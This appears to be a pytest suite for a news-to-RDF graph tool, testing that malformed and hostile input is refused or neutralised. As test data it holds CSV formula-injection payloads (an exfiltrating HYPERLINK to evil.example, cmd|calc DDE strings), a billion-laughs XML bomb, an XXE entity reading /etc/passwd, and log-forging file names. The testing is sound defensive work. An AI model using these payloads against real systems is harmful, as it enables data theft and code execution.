"""Issue 15: input that a careless user or an attacker brings; one bad file never takes the batch down.

Each test reproduces a failure seen on the code before the fix (traceback, hang, silent merge or silent skip).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import sys
import threading
import unicodedata
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from diplograph.build import build, build_dataset
from diplograph.cli import main
from diplograph.corpus import Article, ArticleProblem, _decode, iter_articles, read_file

from .conftest import ROOT

EN = "Kazakhstan is a member of the Organization of Turkic States, officials said on Monday in Astana."
EN2 = "Hungary holds observer status in the Organization of Turkic States, the ministry said on Friday."


def _items(*paths):
    items = list(iter_articles(paths))
    return [i for i in items if isinstance(i, Article)], [i for i in items if isinstance(i, ArticleProblem)]


def _one_line(problems):
    for p in problems:
        assert "\n" not in str(p) and "\r" not in str(p)


# ---------------------------------------------------------------- one file never stops the batch


def test_deeply_nested_jsonl_line_is_one_problem(tmp_path):
    deep = "[" * 100_000 + "]" * 100_000
    (tmp_path / "batch.jsonl").write_text(deep + "\n" + json.dumps({"text": EN, "language": "en"}) + "\n")
    arts, probs = _items(tmp_path)
    assert len(arts) == 1
    assert len(probs) == 1 and probs[0].skipped and "batch.jsonl:1" in str(probs[0])
    _one_line(probs)


def test_deeply_nested_sidecar_is_a_warning(tmp_path):
    (tmp_path / "a.txt").write_text(EN)
    (tmp_path / "a.meta.json").write_text('{"title": ' + "[" * 100_000 + "]" * 100_000 + "}")
    arts, probs = _items(tmp_path)
    assert len(arts) == 1 and arts[0].title is None
    assert len(probs) == 1 and not probs[0].skipped and "a.meta.json" in str(probs[0])


@pytest.mark.parametrize("published", ["0001-01-01T00:00:00Z", "9999-12-31", "0001-01-01"])
def test_dates_out_of_range_are_dropped_with_a_warning(tmp_path, published):
    # a relative date ("yesterday", "next year") beside a year-1 or year-9999 publication date overflowed
    text = EN + " Yesterday the summit opened, and next year Hungary will chair it. Last month talks began."
    (tmp_path / "a.txt").write_text(text)
    (tmp_path / "a.meta.json").write_text(json.dumps({"published": published}))
    (tmp_path / "b.txt").write_text(EN2)
    report = build([tmp_path], [tmp_path / "out" / "g.nt"])
    assert report.articles == 2
    warn = [p for p in report.problems if "published" in p.message]
    assert len(warn) == 1 and not warn[0].skipped and "a.txt" in warn[0].source
    assert "0001-01-01" not in (tmp_path / "out" / "g.nt").read_text()


def test_date_in_a_jsonl_line_out_of_range(tmp_path):
    lines = [json.dumps({"text": EN + " Yesterday talks opened.", "published": "0001-01-01T00:00:00Z"}),
             json.dumps({"text": EN2})]
    (tmp_path / "b.jsonl").write_text("\n".join(lines) + "\n")
    _, report = build_dataset([tmp_path])
    assert report.articles == 2 and len(report.warnings) == 1


@pytest.mark.skipif(sys.platform != "linux", reason="non-UTF-8 file names are a POSIX matter")
def test_file_name_that_is_not_utf8(tmp_path):
    name = os.fsencode(tmp_path) + b"/caf\xe9 \xff.txt"
    with open(name, "wb") as fh:
        fh.write(EN.encode())
    (tmp_path / "good.txt").write_text(EN2)
    report = build([tmp_path], [tmp_path / "out" / "g.ttl", tmp_path / "out" / "g.trig"])
    assert report.articles == 2 and not report.problems
    text = (tmp_path / "out" / "g.ttl").read_text(encoding="utf-8")
    assert 'dg:sourceFile "caf%E9 %FF.txt"' in text  # the bytes are shown, escaped, as the source file


def test_250_byte_file_name(tmp_path):
    long = tmp_path / ("n" * 246 + ".txt")  # the sidecar name would pass the 255-byte limit
    long.write_text(EN)
    (tmp_path / "good.txt").write_text(EN2)
    report = build([tmp_path], [tmp_path / "out" / "g.nt"])
    assert report.articles == 2 and not report.skipped


def _run_with_timeout(fn, seconds=20):
    result = {}

    def target():
        try:
            result["value"] = fn()
        except BaseException as exc:  # noqa: BLE001 - reported to the test
            result["error"] = exc

    t = threading.Thread(target=target, daemon=True)
    t.start()
    t.join(seconds)
    assert not t.is_alive(), "hung"
    if "error" in result:
        raise result["error"]
    return result["value"]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_sidecar_that_is_a_fifo_does_not_hang(tmp_path):
    (tmp_path / "a.txt").write_text(EN)
    os.mkfifo(tmp_path / "a.meta.json")
    arts, probs = _run_with_timeout(lambda: _items(tmp_path))
    assert len(arts) == 1
    assert len(probs) == 1 and not probs[0].skipped and "not a regular file" in probs[0].message


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_article_that_is_a_fifo_given_by_name_does_not_hang(tmp_path):
    os.mkfifo(tmp_path / "a.txt")
    arts, probs = _run_with_timeout(lambda: _items(tmp_path / "a.txt"))
    assert not arts and len(probs) == 1 and probs[0].skipped and "not a regular file" in probs[0].message


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no /dev/zero")
def test_sidecar_linked_to_dev_zero(tmp_path):
    (tmp_path / "a.txt").write_text(EN)
    (tmp_path / "a.meta.json").symlink_to("/dev/zero")
    arts, probs = _run_with_timeout(lambda: _items(tmp_path))
    assert len(arts) == 1 and len(probs) == 1 and not probs[0].skipped


def test_huge_sidecar_is_refused(tmp_path):
    (tmp_path / "a.txt").write_text(EN)
    (tmp_path / "a.meta.json").write_text(json.dumps({"title": "x" * 2_000_000}))
    arts, probs = _items(tmp_path)
    assert len(arts) == 1 and arts[0].title is None and len(probs) == 1 and "too large" in probs[0].message


@pytest.mark.parametrize("key,value", [("title", ["a", "b"]), ("url", {"href": "x"}), ("outlet", 12),
                                       ("published", 20240101), ("language", ["en"]), ("title", True)])
def test_wrong_typed_sidecar_values_warn_and_are_ignored(tmp_path, key, value):
    (tmp_path / "a.txt").write_text(EN)
    (tmp_path / "a.meta.json").write_text(json.dumps({key: value, "outlet": "Reuters"} if key != "outlet"
                                                     else {key: value}))
    arts, probs = _items(tmp_path)
    assert len(arts) == 1
    assert len(probs) == 1 and not probs[0].skipped and repr(key) in probs[0].message, probs
    art = arts[0]
    assert getattr(art, {"language": "lang"}.get(key, key)) in (None, "en")
    assert "['a', 'b']" not in str(art)


def test_wrong_typed_values_in_a_jsonl_line(tmp_path):
    (tmp_path / "b.jsonl").write_text(json.dumps({"text": EN, "title": ["a", "b"], "url": 3}) + "\n")
    arts, probs = _items(tmp_path)
    assert len(arts) == 1 and arts[0].title is None and arts[0].url is None
    assert len(probs) == 2 and all(not p.skipped for p in probs)


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads every folder")
def test_unreadable_subfolder_is_reported(tmp_path):
    (tmp_path / "a.txt").write_text(EN)
    locked = tmp_path / "locked"
    locked.mkdir()
    (locked / "b.txt").write_text(EN2)
    locked.chmod(0)
    try:
        arts, probs = _items(tmp_path)
    finally:
        locked.chmod(0o755)
    assert len(arts) == 1
    assert len(probs) == 1 and "locked" in str(probs[0]) and "cannot be read" in probs[0].message


def test_unreadable_subfolder_is_reported_even_as_root(tmp_path, monkeypatch):
    """(root ignores file modes: the refusal is simulated where the folder is listed)"""
    import diplograph.corpus as C

    (tmp_path / "a.txt").write_text(EN)
    locked = tmp_path / "locked"
    locked.mkdir()
    (locked / "b.txt").write_text(EN2)
    real = os.scandir

    def scandir(path="."):
        if Path(path) == locked:
            raise PermissionError(13, "Permission denied", str(path))
        return real(path)

    monkeypatch.setattr(C.os, "scandir", scandir)
    arts, probs = _items(tmp_path)
    assert len(arts) == 1
    assert len(probs) == 1 and probs[0].skipped and "locked" in probs[0].source
    assert "cannot be read (Permission denied)" in probs[0].message


def test_links_loops_and_dangling_are_reported(tmp_path):
    (tmp_path / "a.txt").write_text(EN)
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "b.txt").write_text(EN2)
    (tmp_path / "sub" / "up").symlink_to("..")  # a folder loop
    (tmp_path / "self.txt").symlink_to("self.txt")  # a link loop
    (tmp_path / "gone.txt").symlink_to("nowhere.txt")  # a dangling link
    (tmp_path / "other").symlink_to(tmp_path / "sub")  # a second way to the same folder
    arts, probs = _items(tmp_path)
    assert sorted(a.text for a in arts) == sorted([EN, EN2])
    msgs = sorted(str(p) for p in probs)
    assert len(probs) == 4, msgs
    assert any("gone.txt" in m and "dangling link" in m for m in msgs)
    assert any("self.txt" in m and "link loop" in m for m in msgs)
    assert sum("already read" in m for m in msgs) == 2  # sub/up -> the root, other -> sub
    _one_line(probs)


def test_same_stem_in_two_folders_is_two_articles(tmp_path):
    for year, text in (("2024", EN), ("2025", EN2)):
        (tmp_path / year).mkdir()
        (tmp_path / year / "report.txt").write_text(text)
        (tmp_path / year / "report.meta.json").write_text(json.dumps({"title": f"Report {year}"}))
    arts, _ = _items(tmp_path)
    assert len({a.id for a in arts}) == 2
    quads, report = build_dataset([tmp_path])
    assert report.articles == 2
    heads: dict[str, set[str]] = {}
    for q in quads.to_rdflib().quads((None, None, None, None)):
        if str(q[2]).startswith("Report "):
            heads.setdefault(str(q[0]), set()).add(str(q[2]))
    # one title on each article, not both titles on one node
    assert sorted(map(sorted, heads.values())) == [["Report 2024"], ["Report 2025"]]


@pytest.mark.parametrize("names", [("report.txt", "report.md"), ("a_b.txt", "a-b.txt"),
                                   ("index.html", "sub/index.html")])
def test_names_that_slug_alike_are_different_articles(tmp_path, names):
    for n, text in zip(names, (EN, EN2), strict=True):
        (tmp_path / n).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / n).write_text(text if not n.endswith("html") else f"<p>{text}</p>")
    arts, probs = _items(tmp_path)
    assert len(arts) == 2 and len({a.id for a in arts}) == 2 and not probs


def test_same_file_name_given_from_two_folders(tmp_path):
    for d, text in (("x", EN), ("y", EN2)):
        (tmp_path / d).mkdir()
        (tmp_path / d / "report.txt").write_text(text)
    arts, _ = _items(tmp_path / "x" / "report.txt", tmp_path / "y" / "report.txt")
    assert len({a.id for a in arts}) == 2


def test_ids_are_stable_and_keep_the_stem_for_a_flat_folder(tmp_path):
    arts, _ = _items(ROOT / "articles")
    assert {"ots-diaspora-en", "ots-diaspora-fr"} <= {a.id for a in arts}
    (tmp_path / "2024").mkdir()
    (tmp_path / "2024" / "report.txt").write_text(EN)
    first = [a.id for a in _items(tmp_path)[0]]
    assert first == [a.id for a in _items(tmp_path)[0]] == ["2024/report"]


def test_duplicate_explicit_jsonl_ids_are_kept_apart(tmp_path):
    (tmp_path / "b.jsonl").write_text(json.dumps({"id": "x", "text": EN}) + "\n" + json.dumps({"id": "x", "text": EN2}))
    arts, probs = _items(tmp_path)
    assert len({a.id for a in arts}) == 2 and arts[0].id == "x"
    assert len(probs) == 1 and not probs[0].skipped and "'x'" in probs[0].message


# ---------------------------------------------------------------- decoding


def test_one_bad_byte_does_not_turn_a_utf8_file_into_cp1252():
    text = "Azerbaijan’s minister said Türkiye is a member of the Organization of Turkic States. " * 20
    data = text.encode("utf-8")
    data = data.replace(b" minister", b" \xffminister", 1)
    out = _decode(data)
    assert "Azerbaijan’s" in out and "â€" not in out and "Türkiye" in out
    assert out.count("’") == 20


def test_a_latin1_span_inside_utf8_is_read_per_span():
    out = _decode("Türkiye’s envoy met ".encode() + "Müller in Zürich.".encode("latin-1"))
    assert out == "Türkiye’s envoy met Müller in Zürich."


def test_a_cp1252_file_is_still_cp1252():
    s = "Türkiye’s “Organization” — Zürich, café, naïve. " * 5
    assert _decode(s.encode("cp1252")) == s


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\r"), min_size=1,
                        max_size=80), min_size=1, max_size=5),
       st.binary(min_size=1, max_size=2).filter(lambda b: not b.isascii()))
def test_byte_damage_stays_local(pieces, junk):
    """Stray bytes between characters change the text only where they are: every piece around them is kept."""
    data = junk.join(p.encode("utf-8") for p in pieces)
    out = _decode(data)
    non_ascii = sum(ord(c) > 127 for p in pieces for c in p)
    if non_ascii >= len(junk) * (len(pieces) - 1):  # mostly UTF-8 (else the file is read as Windows-1252)
        pos = 0
        for p in pieces:
            p = p.lstrip("\ufeff") if pos == 0 else p
            found = out.find(p, pos)
            assert found >= 0, (p, out)
            pos = found + len(p)


def test_a_nul_byte_early_does_not_make_an_article_binary(tmp_path):
    p = tmp_path / "a.txt"
    p.write_bytes(b"\x00" + (EN + "\n").encode() * 3)
    arts = [i for i in read_file(p) if isinstance(i, Article)]
    assert len(arts) == 1 and "\x00" not in arts[0].text


def test_binary_files_are_still_binary(tmp_path):
    p = tmp_path / "a.txt"
    p.write_bytes(bytes(range(256)) * 8)
    items = list(read_file(p))
    assert len(items) == 1 and isinstance(items[0], ArticleProblem) and "binary" in items[0].message


# ---------------------------------------------------------------- language


@pytest.mark.parametrize("tag,ok", [("fry", False), ("fra", True), ("fr-CA", True), ("en_GB", True), ("eng", True),
                                    ("frr", False), ("enm", False), ("fr-", False), ("FR", True), ("e", False)])
def test_language_tags_are_read_by_their_primary_subtag(tmp_path, tag, ok):
    (tmp_path / "a.txt").write_text(EN)
    (tmp_path / "a.meta.json").write_text(json.dumps({"language": tag}))
    arts, probs = _items(tmp_path)
    if ok:
        assert len(arts) == 1 and arts[0].lang == tag[:2].lower()
    else:
        assert not arts and len(probs) == 1 and probs[0].skipped and "is not read" in probs[0].message


def test_a_blank_language_is_detected(tmp_path):
    (tmp_path / "a.txt").write_text(EN)
    (tmp_path / "a.meta.json").write_text(json.dumps({"language": "  "}))
    arts, probs = _items(tmp_path)
    assert [a.lang for a in arts] == ["en"] and not probs


@pytest.mark.parametrize("text", ["fry", "ok", "12 345", "Hmm.", "xyzzy plugh"])
def test_too_little_text_to_tell_the_language(tmp_path, text):
    (tmp_path / "a.txt").write_text(text)
    arts, probs = _items(tmp_path)
    assert not arts and len(probs) == 1 and probs[0].skipped
    assert "language cannot be told" in probs[0].message


@pytest.mark.parametrize("text,lang", [("Hungary is an observer.", "en"), ("La Hongrie est observatrice.", "fr")])
def test_short_but_clear_texts_keep_their_language(tmp_path, text, lang):
    (tmp_path / "a.txt").write_text(text)
    arts, _ = _items(tmp_path)
    assert [a.lang for a in arts] == [lang]


# ---------------------------------------------------------------- the CLI over all of it


def test_cli_survives_a_folder_of_hostile_files(tmp_path):
    d = tmp_path / "in"
    d.mkdir()
    (d / "good.txt").write_text(EN)
    (d / "deep.jsonl").write_text("{" * 50_000 + "\n")
    (d / "old.txt").write_text(EN + " Yesterday they met.")
    (d / "old.meta.json").write_text('{"published": "0001-01-01T00:00:00Z", "title": ["a", "b"]}')
    (d / ("n" * 246 + ".txt")).write_text(EN2)
    (d / "gone.txt").symlink_to("nowhere")
    if hasattr(os, "mkfifo"):
        os.mkfifo(d / "good.meta.json")
    r = _run_with_timeout(lambda: CliRunner().invoke(main, ["build", str(d), "--out", str(tmp_path / "g.ttl")]), 60)
    assert "Traceback" not in r.output and r.exception is None or isinstance(r.exception, SystemExit), r.output
    assert r.exit_code == 3, r.output
    assert "3 articles read" in r.output
    assert (tmp_path / "g.ttl").exists() and stat.S_ISREG(os.stat(tmp_path / "g.ttl").st_mode)
    assert re.search(r"^skipped .*gone\.txt: dangling link", r.output, re.M)


# ---------------------------------------------------------------- messages


def test_a_newline_in_a_file_name_cannot_forge_a_line(tmp_path):
    d = tmp_path / "in"
    d.mkdir()
    (d / "good.txt").write_text(EN)
    (d / "evil\nskipped fake.txt: forged.txt").write_text("")  # an empty article: one 'skipped' line
    (d / "\x1b[2J\x1b[31mred.txt").write_text("")
    (d / "[").mkdir()
    (d / "[" / "] emoji :100: [bold]x.txt").write_text("")  # the path holds [/]
    r = CliRunner().invoke(main, ["build", str(d), "--out", str(tmp_path / "g.ttl")])
    assert r.exit_code == 3 and r.exception is None or isinstance(r.exception, SystemExit), r.output
    skipped = [ln for ln in r.output.splitlines() if ln.startswith("skipped ")]
    assert len(skipped) == 3, r.output
    assert not any(ln.startswith("skipped fake") for ln in r.output.splitlines())
    assert "evil\\nskipped fake.txt: forged.txt: empty article" in r.output
    assert "\x1b" not in r.output and "\\x1b[2J\\x1b[31mred.txt" in r.output
    assert "[/] emoji :100: [bold]x.txt: empty article" in r.output and "💯" not in r.output


def test_markup_in_an_error_is_shown_as_it_is(tmp_path):
    r = CliRunner().invoke(main, ["build", str(tmp_path / "no [/] such :100: \x1b[31m")])
    assert r.exit_code == 2 and "Traceback" not in r.output
    assert r.output.strip().splitlines() == [f"error: {tmp_path}/no [/] such :100: \\x1b[31m: no such file or folder"]


def test_focus_value_with_markup(tmp_path):
    build([ROOT / "articles"], [tmp_path / "g.ttl"])
    r = CliRunner().invoke(main, ["viz", "--data", str(tmp_path / "g.ttl"), "--focus", "[/]:100:\n",
                                  "--out", str(tmp_path / "g.html")])
    assert r.exit_code == 2 and isinstance(r.exception, SystemExit), r.output
    assert len(r.output.strip().splitlines()) == 1 and "[/]:100:\\n" in r.output


def test_query_table_cells_are_escaped_not_interpreted(tmp_path):
    nt = tmp_path / "g.nt"
    nt.write_text('<http://x/a> <http://x/p> "a\\u001B[31mred\\nsecond [bold]b[/] :100:" .\n')
    r = CliRunner().invoke(main, ["query", "SELECT ?o WHERE { ?s ?p ?o }", "--data", str(nt)])
    assert r.exit_code == 0, r.output
    assert "\x1b" not in r.output and "\\x1b[31mred\\nsecond [bold]b[/] :100:" in r.output.replace("\n", "")


def test_clean_escapes_every_control_character():
    from diplograph.messages import clean

    for c in [chr(i) for i in range(32)] + ["\x7f", "\x85", "\u2028", "\u202e"]:
        out = clean(f"a{c}b")
        assert out.isprintable() and out.startswith("a\\") and out.endswith("b"), repr(out)
    assert clean("Côte d'Ivoire — 🌍") == "Côte d'Ivoire — 🌍"
    assert clean("l'OTS\u202f: « oui »\xa0!") == "l'OTS\u202f: « oui »\xa0!"  # French spacing stays
    assert clean("a\u200db\ue000") == "a\\u200db\\ue000"


# ---------------------------------------------------------------- exports safe for their readers

DG_NS = "https://w3id.org/diplograph/ontology#"
SKOS_LABEL = "http://www.w3.org/2004/02/skos/core#prefLabel"
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]


def _hostile_nt(path: Path) -> Path:
    lines = []
    for i, text in enumerate([*FORMULAS, "Evil\x01\x08\x0b\x1b[31m\x7f\ufffeState", "-3.5", "+44", "12"]):
        s = f"<https://w3id.org/diplograph/id/state/S{i:02d}>"
        esc = json.dumps(text, ensure_ascii=True)  # N-Triples accepts the same \\uXXXX escapes
        lines.append(f"{s} <http://www.w3.org/1999/02/22-rdf-syntax-ns#type> <{DG_NS}State> .")
        lines.append(f"{s} <{SKOS_LABEL}> {esc}@en .")
        lines.append(f"{s} <{DG_NS}evidence> <https://w3id.org/diplograph/id/mention/m{i}> .")
    path.write_text("\n".join(lines) + "\n")
    return path


def test_csv_cells_that_would_run_as_formulas_are_neutralised(tmp_path):
    nt = _hostile_nt(tmp_path / "h.nt")
    for how in ("query", "export"):
        if how == "query":
            r = CliRunner().invoke(main, ["query", "states", "--data", str(nt), "-f", "csv"])
            assert r.exit_code == 0, r.output
            rows = list(csv.reader(io.StringIO(r.stdout, newline="")))[1:]
        else:
            export_dir = tmp_path / "csv"
            CliRunner().invoke(main, ["export", "--data", str(nt), "-f", "csv", "--out", str(export_dir)])
            with open(export_dir / "states.csv", newline="", encoding="utf-8") as fh:
                rows = list(csv.reader(fh))[1:]
        cells = [row[0] for row in rows]
        for f in FORMULAS:
            assert "'" + f.replace("\r", "\n") in cells, (f, cells)
        assert not [c for c in cells if c[:1] in "=+-@\t\r" and c not in ("-3.5", "+44")], cells
        assert "-3.5" in cells and "12" in cells  # plain numbers stay numbers


def test_tsv_is_neutralised_too(tmp_path):
    nt = _hostile_nt(tmp_path / "h.nt")
    r = CliRunner().invoke(main, ["query", "states", "--data", str(nt), "-f", "tsv"])
    assert r.exit_code == 0
    cells = [row[0] for row in csv.reader(io.StringIO(r.stdout, newline=""), delimiter="\t")][1:]
    assert len(cells) == len(FORMULAS) + 4
    assert all(c.startswith("'") for c in cells if c[:1] in "=+-@\t\r" and c not in ("-3.5", "+44")) and cells


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_graphml_and_gexf_are_well_formed_whatever_the_text(tmp_path, fmt):
    import xml.etree.ElementTree as ET

    import networkx as nx

    nt = _hostile_nt(tmp_path / "h.nt")
    out = tmp_path / f"g.{fmt}"
    r = CliRunner().invoke(main, ["export", "--data", str(nt), "-f", fmt, "--out", str(out)])
    assert r.exit_code == 0, r.output
    ET.parse(out)  # a strict XML 1.0 parser: raises on any illegal character
    g = nx.read_graphml(out) if fmt == "graphml" else nx.read_gexf(out)
    labels = {d["label"] for _, d in g.nodes(data=True)}
    assert "Evil[31m\x7fState" in labels and FORMULAS[0] in labels  # (DEL is legal in XML 1.0)


def test_gexf_holds_no_date_and_exports_are_deterministic(seed_build, tmp_path):
    import datetime as dt
    import subprocess

    out, _ = seed_build
    code = ("import sys; from diplograph.export import export; "
            "export([sys.argv[1]], sys.argv[2], sys.argv[3])")
    blobs = {}
    for fmt in ("gexf", "graphml"):
        for seed in ("1", "2"):
            target = tmp_path / f"{seed}.{fmt}"
            env = dict(os.environ, PYTHONHASHSEED=seed, PYTHONPATH=str(ROOT / "src"))
            subprocess.run([sys.executable, "-c", code, str(out / "g.ttl"), fmt, str(target)], check=True, env=env)
            blobs[fmt, seed] = target.read_bytes()
        assert blobs[fmt, "1"] == blobs[fmt, "2"], fmt
    today = dt.date.today().isoformat().encode()
    assert today not in blobs["gexf", "1"] and b"lastmodifieddate" not in blobs["gexf", "1"]


class _Counting:
    """A local HTTP server that counts what is asked of it (a remote JSON-LD context)."""

    def __enter__(self):
        import http.server

        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                hits.append(self.path)
                body = json.dumps({"@context": {"name": "http://schema.org/name"}}).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/ld+json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.srv.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.srv.server_port}/context.jsonld"
        return self

    def __exit__(self, *exc):
        self.srv.shutdown()
        self.srv.server_close()


def _commands(data: Path, tmp_path: Path) -> list[list[str]]:
    d = str(data)
    return [["export", "--data", d, "-f", "turtle", "--out", str(tmp_path / "o.ttl")],
            ["export", "--data", d, "-f", "jsonld", "--out", str(tmp_path / "o.jsonld")],
            ["export", "--data", d, "-f", "graphml", "--out", str(tmp_path / "o.graphml")],
            ["query", "SELECT * WHERE { ?s ?p ?o }", "--data", d],
            ["query", "SELECT * WHERE { ?s ?p ?o }", "--data", d, "--backend", "memory"],
            ["validate", "--data", d],
            ["viz", "--data", d, "--out", str(tmp_path / "o.html")],
            ["push", "--data", d, "--endpoint", "http://127.0.0.1:9/store"]]


@pytest.mark.parametrize("where", ["top", "nested", "import"])
def test_remote_jsonld_context_is_never_fetched(tmp_path, where):
    with _Counting() as srv:
        doc = {"@context": srv.url, "@id": "http://x/a", "name": "A"}
        if where == "nested":
            doc = {"@context": {"x": "http://x/"}, "@graph": [{"@context": [srv.url], "@id": "http://x/b"}]}
        elif where == "import":
            doc = {"@context": {"@version": 1.1, "@import": srv.url}, "@id": "http://x/a"}
        p = tmp_path / "remote.jsonld"
        p.write_text(json.dumps(doc))
        for args in _commands(p, tmp_path):
            r = CliRunner().invoke(main, args)
            assert r.exit_code == 2 and isinstance(r.exception, SystemExit), (args, r.output)
            assert "remote JSON-LD context" in r.output and len(r.output.strip().splitlines()) == 1, r.output
        assert srv.hits == []


def test_inline_jsonld_context_is_read(tmp_path, seed_build):
    out, _ = seed_build
    (j,) = __import__("diplograph.export", fromlist=["export"]).export([out / "g.ttl"], "jsonld", tmp_path / "g.jsonld")
    r = CliRunner().invoke(main, ["query", "memberships", "--data", str(j), "-f", "csv"])
    assert r.exit_code == 0 and len(r.stdout.splitlines()) > 5


def _laughs(levels: int) -> str:
    ents = ['<!ENTITY lol "lol">'] + [f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">'
                                      for i in range(1, levels + 1)]
    return ('<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [\n' + "\n".join(ents) + "\n]>\n"
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://x/">\n'
            f'<rdf:Description rdf:about="http://x/a"><ex:p>&lol{levels};</ex:p></rdf:Description>\n</rdf:RDF>\n')


def test_billion_laughs_rdfxml_is_refused(tmp_path):
    p = tmp_path / "laughs.rdf"
    p.write_text(_laughs(7))  # 800 bytes that pyoxigraph expanded to 30 MB (9 levels: 3 GB)
    assert p.stat().st_size < 2000
    for args in _commands(p, tmp_path)[:-1]:
        r = CliRunner().invoke(main, args)
        assert r.exit_code == 2 and isinstance(r.exception, SystemExit), (args, r.output)
        assert "entit" in r.output and len(r.output.strip().splitlines()) == 1, r.output
    assert not (tmp_path / "o.ttl").exists()


@pytest.mark.parametrize("decl,why", [('<!ENTITY x SYSTEM "file:///etc/passwd">', "external"),
                                      ('<!ENTITY % p "x">', "parameter"),
                                      ('<!ENTITY x PUBLIC "-//x" "http://x/">', "external")])
def test_external_and_parameter_entities_are_refused(tmp_path, decl, why):
    p = tmp_path / "x.rdf"
    p.write_text(f'<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [ {decl} ]>\n'
                 '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://x/">'
                 '<rdf:Description rdf:about="http://x/a"><ex:p>v</ex:p></rdf:Description></rdf:RDF>\n')
    r = CliRunner().invoke(main, ["query", "SELECT * WHERE { ?s ?p ?o }", "--data", str(p)])
    assert r.exit_code == 2 and why in r.output


def test_plain_entities_as_in_owl_files_are_read(tmp_path):
    p = tmp_path / "x.rdf"
    p.write_text('<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [ <!ENTITY ex "http://x/"> ]>\n'
                 '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://x/">'
                 '<rdf:Description rdf:about="&ex;a"><ex:p>v</ex:p></rdf:Description></rdf:RDF>\n')
    r = CliRunner().invoke(main, ["query", "SELECT ?s WHERE { ?s ?p ?o }", "--data", str(p), "-f", "csv"])
    assert r.exit_code == 0 and "http://x/a" in r.stdout, r.output


# ---------------------------------------------------------------- properties over sidecars and file names

_JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=30),
                     lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner,
                                                                                  max_size=4), max_leaves=20)
_META = st.dictionaries(st.sampled_from(["url", "title", "published", "outlet", "id", "x"]), _JSON, max_size=6)


@settings(max_examples=120, deadline=None)
@given(st.one_of(_META.map(lambda d: json.dumps(d).encode()), _JSON.map(lambda v: json.dumps(v).encode()),
                 st.binary(max_size=300)))
def test_any_sidecar_leaves_the_article_readable(tmp_path_factory, sidecar):
    d = tmp_path_factory.mktemp("side")
    (d / "a.txt").write_text(EN)
    (d / "a.meta.json").write_bytes(sidecar)
    items = list(read_file(d / "a.txt"))
    arts = [i for i in items if isinstance(i, Article)]
    assert len(arts) == 1 and arts[0].lang == "en"
    for field_ in ("title", "url", "outlet"):
        assert getattr(arts[0], field_) is None or isinstance(getattr(arts[0], field_), str)
    assert arts[0].published is None or 1800 <= arts[0].published.year <= 2199
    for p in items[:-1]:
        assert isinstance(p, ArticleProblem) and not p.skipped and "\n" not in str(p)


@pytest.mark.skipif(sys.platform != "linux", reason="file names as bytes are a POSIX matter")
@settings(max_examples=80, deadline=None)
@given(st.binary(min_size=1, max_size=200).filter(lambda b: b"/" not in b and b"\0" not in b
                                                   and b not in (b".", b"..") and not b.startswith(b".")))
def test_any_file_name_gives_one_article_with_a_printable_source(tmp_path_factory, name):
    import pyoxigraph as ox

    from diplograph.messages import clean

    d = tmp_path_factory.mktemp("names")
    path = os.fsencode(d) + b"/" + name + b".txt"
    with open(path, "wb") as fh:
        fh.write(EN.encode())
    items = list(iter_articles([d]))
    arts = [i for i in items if isinstance(i, Article)]
    assert len(arts) == 1 and not [i for i in items if isinstance(i, ArticleProblem)]
    a = arts[0]
    a.source.encode("utf-8")  # valid text: no lone surrogates
    ox.Literal(a.source)  # what the graph writes
    ox.NamedNode(f"https://w3id.org/diplograph/id/article/{a.id}")
    shown = clean(a.source)
    assert all(c.isprintable() or unicodedata.category(c) == "Zs" for c in shown)


def test_rdfxml_export_is_well_formed_whatever_the_text(tmp_path):
    import xml.etree.ElementTree as ET

    nt = _hostile_nt(tmp_path / "h.nt")
    from diplograph.export import export

    export([nt], "xml", tmp_path / "g.rdf")  # (the library's export; the command offers the formats above)
    ET.parse(tmp_path / "g.rdf")
    assert "Evil[31m\x7fState" in (tmp_path / "g.rdf").read_text(encoding="utf-8")


def test_rdfxml_output_of_a_build_is_well_formed(tmp_path):
    import xml.etree.ElementTree as ET

    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.txt").write_text("Kazakhstan\x01 is a member of the Organization of Turkic States\x1b, "
                                           "officials said on Monday in Astana.")
    report = build([tmp_path / "in"], [tmp_path / "g.rdf", tmp_path / "g.nt"])
    assert report.articles == 1
    ET.parse(tmp_path / "g.rdf")
    assert "\\u001B" in (tmp_path / "g.nt").read_text() or "\x1b" in (tmp_path / "g.nt").read_text()


def test_deeply_nested_html_is_read_as_plain_text_with_one_line(tmp_path):
    """The HTML parser's time grows with the square of the nesting (100,000 divs took 23 s): such a page is read
    as plain text, with a warning naming the file."""
